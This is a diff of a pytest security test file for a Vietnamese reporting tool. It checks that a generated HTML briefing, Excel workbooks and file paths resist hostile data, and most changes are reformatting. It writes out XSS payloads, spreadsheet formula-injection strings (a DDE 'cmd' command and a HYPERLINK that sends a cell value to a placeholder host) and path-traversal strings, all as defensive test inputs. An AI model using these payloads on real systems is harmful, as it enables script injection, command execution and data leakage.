@@ -14,16 +14,15 @@ from pathlib import Path
 
 import openpyxl
 import pytest
-
-from cchc_analysis import cli, workbook
-from cchc_analysis.workbook import layout
-from cchc_analysis.domain import periods
-from cchc_analysis.ingest import contracts
-from cchc_analysis.ingest.dataset import load_data
-from cchc_analysis.errors import CchcDataError, CchcParameterError
-
 from conftest import DATA, ROOT
 from conftest_render import needs_chromium, offline_page
+
+from cchc_analysis import cli, workbook
+from cchc_analysis.domain import periods
+from cchc_analysis.errors import CchcDataError, CchcParameterError
+from cchc_analysis.ingest import contracts
+from cchc_analysis.ingest.dataset import load_data
+from cchc_analysis.workbook import layout
 
 SCRIPT = "<script>window.__pwned=1</script>"
 IMG = "<img src=x onerror=window.__pwned=1>"
@@ -61,9 +60,16 @@ def rewrite(path: Path, change) -> None:
 def hostile_data(target: Path) -> Path:
     shutil.copytree(DATA, target)
     for file, key, value, column, payload in PAYLOADS:
-        rewrite(target / file, lambda row: row.__setitem__(column, payload) if row[key] == value else None)
+        rewrite(
+            target / file,
+            lambda row, key=key, value=value, column=column, payload=payload: (
+                row.__setitem__(column, payload) if row[key] == value else None
+            ),
+        )
     for file in ("plan/tasks.csv", "progress/progress.csv"):
-        rewrite(target / file, lambda row: row.__setitem__("task_id", TASK_ID[1]) if row["task_id"] == TASK_ID[0] else None)
+        rewrite(
+            target / file, lambda row: row.__setitem__("task_id", TASK_ID[1]) if row["task_id"] == TASK_ID[0] else None
+        )
     load_data(target)  # valid data: only the text is hostile
     return target
 
@@ -71,6 +77,7 @@ def hostile_data(target: Path) -> Path:
 # ---------------------------------------------------------------------------
 # (a) The briefing in a real browser
 # ---------------------------------------------------------------------------
+
 
 def browse(html: Path) -> dict:
     """Open ``html`` in Debian's Chromium (network blocked, every other request recorded) and report what
@@ -83,8 +90,10 @@ def browse(html: Path) -> dict:
         seen = {
             "pwned": page.evaluate("typeof window.__pwned"),
             "text": page.inner_text("body"),
-            "active": page.evaluate("document.querySelectorAll('script, svg, iframe, object, embed, "
-                                    "img:not([src^=\"data:\"]), [onerror], [onload]').length"),
+            "active": page.evaluate(
+                "document.querySelectorAll('script, svg, iframe, object, embed, "
+                'img:not([src^="data:"]), [onerror], [onload]\').length'
+            ),
             "dialogs": dialogs,
         }
     seen["attempted"] = sorted(set(attempted))
@@ -97,9 +106,12 @@ def briefing_page(tmp_path_factory) -> tuple[Path, dict]:
 
     folder = tmp_path_factory.mktemp("injection")
     data = hostile_data(folder / "data")
-    notebook = render.execute_notebook(ROOT / "notebooks" / "03_briefing.ipynb", folder / "briefing.ipynb",
-                                       {"period": "2023-Q3", "agency": "ban-dan-toc", "data_dir": str(data)},
-                                       timeout=300)
+    notebook = render.execute_notebook(
+        ROOT / "notebooks" / "03_briefing.ipynb",
+        folder / "briefing.ipynb",
+        {"period": "2023-Q3", "agency": "ban-dan-toc", "data_dir": str(data)},
+        timeout=300,
+    )
     html = render.export_html(notebook, folder / "briefing.html", title="Báo cáo lãnh đạo")
     return html, browse(html)
 
@@ -119,8 +131,10 @@ def test_nothing_from_the_data_runs_in_the_briefing(briefing_page):
 
 
 @needs_chromium
-@pytest.mark.parametrize("payload", [f"Ban Dân tộc {SCRIPT}", f"Văn phòng {SVG}", f"Thanh tra {IMG}",
-                                     f"Số TTHC trực tuyến {SCRIPT}", TASK_ID[1]])
+@pytest.mark.parametrize(
+    "payload",
+    [f"Ban Dân tộc {SCRIPT}", f"Văn phòng {SVG}", f"Thanh tra {IMG}", f"Số TTHC trực tuyến {SCRIPT}", TASK_ID[1]],
+)
 def test_hostile_text_is_shown_literally(briefing_page, payload):
     _, seen = briefing_page
     assert payload in seen["text"]  # escaped: the reader sees the characters that were typed
@@ -130,8 +144,13 @@ def test_hostile_text_is_shown_literally(briefing_page, payload):
 # (b) The units' workbook: data written as text; formulas in a returned workbook refused
 # ---------------------------------------------------------------------------
 
-FORMULA_LIKE = ['=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1)",
-                "=cmd|' /C calc'!A0"]
+FORMULA_LIKE = [
+    '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+]
 
 
 @pytest.fixture(scope="module")
@@ -141,13 +160,23 @@ def formula_like_workbook(tmp_path_factory) -> tuple[Path, Path]:
     data = folder / "data"
     shutil.copytree(DATA, data)
     texts = iter(FORMULA_LIKE * 3)
-    rewrite(data / "plan" / "tasks.csv",
-            lambda row: row.__setitem__("description", next(texts)) if row["unit_id"] == "thanh-tra" else None)
+    rewrite(
+        data / "plan" / "tasks.csv",
+        lambda row: row.__setitem__("description", next(texts)) if row["unit_id"] == "thanh-tra" else None,
+    )
     notes = iter(FORMULA_LIKE * 10)
-    rewrite(data / "progress" / "progress.csv",
-            lambda row: row.__setitem__("note", next(notes)) if row["period"] == "2023-Q3" else None)
-    rewrite(data / "units.csv", lambda row: row.__setitem__("name", "=Thanh tra+1") if row["unit_id"] == "thanh-tra" else None)
-    rewrite(data / "agencies.csv", lambda row: row.__setitem__("name", "@Ban Dân tộc") if row["agency_id"] == "ban-dan-toc" else None)
+    rewrite(
+        data / "progress" / "progress.csv",
+        lambda row: row.__setitem__("note", next(notes)) if row["period"] == "2023-Q3" else None,
+    )
+    rewrite(
+        data / "units.csv",
+        lambda row: row.__setitem__("name", "=Thanh tra+1") if row["unit_id"] == "thanh-tra" else None,
+    )
+    rewrite(
+        data / "agencies.csv",
+        lambda row: row.__setitem__("name", "@Ban Dân tộc") if row["agency_id"] == "ban-dan-toc" else None,
+    )
     return data, workbook.export_workbook(load_data(data), "2023-Q3", folder / "tien_do_q3.xlsx")
 
 
@@ -194,14 +223,19 @@ def plain_q3(tmp_path_factory) -> tuple[Path, Path]:
     return folder / "data", workbook.export_workbook(load_data(folder / "data"), "2023-Q3", folder / "q3.xlsx")
 
 
-@pytest.mark.parametrize(("column", "formula"), [
-    ("J", '=HYPERLINK("http://example.invalid","Bấm vào đây")'),  # a link that leaks on click
-    ("H", "=+1+1"),  # Excel stores a typed +1+1 as the formula +1+1
-    ("J", "=@SUM(A1)"),  # Excel 365's implicit intersection
-    ("I", "=DATE(2023,9,20)"),  # a formula in the date column
-    ("G", '=IF(TRUE,"Hoàn thành")'),
-])
-def test_a_formula_in_a_returned_workbook_is_refused_and_nothing_is_written(plain_q3, tmp_path, column, formula, capsys):
+@pytest.mark.parametrize(
+    ("column", "formula"),
+    [
+        ("J", '=HYPERLINK("http://example.invalid","Bấm vào đây")'),  # a link that leaks on click
+        ("H", "=+1+1"),  # Excel stores a typed +1+1 as the formula +1+1
+        ("J", "=@SUM(A1)"),  # Excel 365's implicit intersection
+        ("I", "=DATE(2023,9,20)"),  # a formula in the date column
+        ("G", '=IF(TRUE,"Hoàn thành")'),
+    ],
+)
+def test_a_formula_in_a_returned_workbook_is_refused_and_nothing_is_written(
+    plain_q3, tmp_path, column, formula, capsys
+):
     data, q3 = plain_q3
     book = openpyxl.load_workbook(q3)
     sheet = book["Thanh tra Ban"]
@@ -225,8 +259,28 @@ def test_a_formula_in_a_returned_workbook_is_refused_and_nothing_is_written(plai
 # (c) Paths: ids, periods and output files stay where they belong
 # ---------------------------------------------------------------------------
 
-ESCAPES = ["..", "../..", "../etc", "..\\..\\Windows", "/etc/passwd", "C:\\Windows", "\\\\server\\share", "a/b", "a\\b",
-           "~", "~root", "con", "NUL", "com1", "lpt9", "aux", ".hidden", "ban-dan-toc/../x", "ban-dan-toc\x00", "x" * 300]
+ESCAPES = [
+    "..",
+    "../..",
+    "../etc",
+    "..\\..\\Windows",
+    "/etc/passwd",
+    "C:\\Windows",
+    "\\\\server\\share",
+    "a/b",
+    "a\\b",
+    "~",
+    "~root",
+    "con",
+    "NUL",
+    "com1",
+    "lpt9",
+    "aux",
+    ".hidden",
+    "ban-dan-toc/../x",
+    "ban-dan-toc\x00",
+    "x" * 300,
+]
 
 
 @pytest.mark.parametrize("text", ESCAPES)
@@ -235,8 +289,23 @@ def test_an_id_can_never_name_a_path(text):
         contracts.parse_id(text)
 
 
-@pytest.mark.parametrize("text", ["2023/../../x", "../2023-Q2", "2023-Q2/..", "/2023", "2023-Q2\\..", "C:\\2023",
-                                  "2023-Q2\x00", "2023-Q2/con", "0000", "9999-Q4", "２０２３-Q2", "Quý 2/2023/.."])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "2023/../../x",
+        "../2023-Q2",
+        "2023-Q2/..",
+        "/2023",
+        "2023-Q2\\..",
+        "C:\\2023",
+        "2023-Q2\x00",
+        "2023-Q2/con",
+        "0000",
+        "9999-Q4",
+        "２０２３-Q2",
+        "Quý 2/2023/..",
+    ],
+)
 def test_a_period_can_never_name_a_path(text):
     with pytest.raises(CchcParameterError):
         periods.parse(text)
@@ -252,8 +321,10 @@ def test_a_valid_period_id_is_a_plain_file_name(text, tmp_path):
 def test_workbook_export_writes_exactly_the_file_asked_for_and_nothing_else(tmp_path, capsys):
     data = tmp_path / "data"
     shutil.copytree(DATA, data)
-    rewrite(data / "units.csv", lambda row: row.__setitem__("name", "../../Thanh tra\\Ban/..:*?[x]")
-            if row["unit_id"] == "thanh-tra" else None)
+    rewrite(
+        data / "units.csv",
+        lambda row: row.__setitem__("name", "../../Thanh tra\\Ban/..:*?[x]") if row["unit_id"] == "thanh-tra" else None,
+    )
     out = tmp_path / "out"
     out.mkdir()
     assert cli.main(["workbook", "export", "2023-Q3", "--data", str(data), "--out", str(out / "q3.xlsx")]) == 0
@@ -263,8 +334,10 @@ def test_workbook_export_writes_exactly_the_file_asked_for_and_nothing_else(tmp_
     assert all(not set("/\\:*?[]") & set(name) and len(name) <= 31 for name in names)
 
 
-@pytest.mark.parametrize(("out", "message"), [("q3.csv", "đuôi .xlsx"), ("q3", "đuôi .xlsx"), ("existing.xlsx", "đã có"),
-                                              ("folder.xlsx", "đã có")])
+@pytest.mark.parametrize(
+    ("out", "message"),
+    [("q3.csv", "đuôi .xlsx"), ("q3", "đuôi .xlsx"), ("existing.xlsx", "đã có"), ("folder.xlsx", "đã có")],
+)
 def test_workbook_export_refuses_an_output_it_must_not_write(tmp_path, capsys, out, message):
     (tmp_path / "existing.xlsx").write_bytes(b"a unit's file")
     (tmp_path / "folder.xlsx").mkdir()
@@ -275,9 +348,15 @@ def test_workbook_export_refuses_an_output_it_must_not_write(tmp_path, capsys, o
     assert (tmp_path / "existing.xlsx").read_bytes() == b"a unit's file"
 
 
-@pytest.mark.parametrize(("cell", "value", "code"), [("B3", "../../2023-Q3", "bad_period"), ("B3", "/etc/2023-Q3", "bad_period"),
-                                                     ("B4", "../ban-dan-toc", "unknown_agency"),
-                                                     ("B4", "..\\..\\con", "unknown_agency")])
+@pytest.mark.parametrize(
+    ("cell", "value", "code"),
+    [
+        ("B3", "../../2023-Q3", "bad_period"),
+        ("B3", "/etc/2023-Q3", "bad_period"),
+        ("B4", "../ban-dan-toc", "unknown_agency"),
+        ("B4", "..\\..\\con", "unknown_agency"),
+    ],
+)
 def test_an_imported_workbook_cannot_steer_a_path(plain_q3, tmp_path, cell, value, code):
     data, q3 = plain_q3
     book = openpyxl.load_workbook(q3)
@@ -297,7 +376,11 @@ def test_a_dollar_sign_in_a_name_is_drawn_as_text(tmp_path):
 
     data = tmp_path / "data"
     shutil.copytree(DATA, data)
-    rewrite(data / "agencies.csv", lambda row: row.__setitem__("short_name", "Cơ quan $\\frac{1}{0$ 01")
-            if row["agency_id"] == "co-quan-01" else None)
+    rewrite(
+        data / "agencies.csv",
+        lambda row: (
+            row.__setitem__("short_name", "Cơ quan $\\frac{1}{0$ 01") if row["agency_id"] == "co-quan-01" else None
+        ),
+    )
     ctx = score_review.context(period="2023-Q3", agency="ban-dan-toc", data_dir=str(data))
     charts.peer_ranking(ctx).savefig(_io.BytesIO(), format="png")
